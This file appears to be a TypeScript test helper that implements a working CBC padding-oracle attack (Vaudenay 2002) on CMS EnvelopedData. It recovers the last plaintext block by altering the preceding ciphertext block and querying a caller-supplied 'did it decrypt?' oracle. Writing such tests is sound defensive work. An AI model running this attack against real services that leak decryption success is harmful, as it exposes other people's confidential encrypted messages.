// Test helper: the CBC padding-oracle attack on a CMS EnvelopedData, with "did it decrypt?" as the
// oracle. It alters the block before the last one, byte by byte from the end, until the last block
// decrypts to valid padding, and so learns the last block's plaintext (Vaudenay 2002). The
// ciphertext must hold its content as one primitive [0] (openssl cms -encrypt without -stream).
import { parseEnvelopedData } from "../../src/cms/parse";

const BLOCK = 16;

export interface AttackResult {
  /** the last plaintext block (padding included), or null when the oracle never said yes */
  lastBlock: Buffer | null;
  queries: number;
}

export function paddingOracleAttack(ciphertext: Uint8Array, decrypts: (altered: Buffer) => boolean): AttackResult {
  const content = Buffer.from(parseEnvelopedData(ciphertext).encryptedContent);
  if (content.length < 2 * BLOCK) throw new Error("the attack needs at least two content blocks");
  const at = Buffer.from(ciphertext).indexOf(content);
  const previous = at + content.length - 2 * BLOCK; // where the block before the last one sits
  const original = Buffer.from(ciphertext).subarray(previous, previous + BLOCK);
  const intermediate = Buffer.alloc(BLOCK); // D(last block), learnt from the end
  let queries = 0;
  const query = (block: Buffer) => {
    const altered = Buffer.from(ciphertext);
    block.copy(altered, previous);
    queries++;
    return decrypts(altered);
  };
  for (let j = BLOCK - 1; j >= 0; j--) {
    const pad = BLOCK - j;
    let found = false;
    for (let guess = 0; guess < 256 && !found; guess++) {
      const block = Buffer.alloc(BLOCK);
      for (let k = j + 1; k < BLOCK; k++) block[k] = intermediate[k] ^ pad;
      block[j] = guess;
      if (!query(block)) continue;
      if (j === BLOCK - 1) {
        // The padding may be longer than 1 by chance: change the byte before and ask again.
        block[j - 1] ^= 0xff;
        if (!query(block)) continue;
      }
      intermediate[j] = guess ^ pad;
      found = true;
    }
    if (!found) return { lastBlock: null, queries };
  }
  const plaintext = Buffer.alloc(BLOCK);
  for (let i = 0; i < BLOCK; i++) plaintext[i] = intermediate[i] ^ original[i];
  return { lastBlock: plaintext, queries };
}
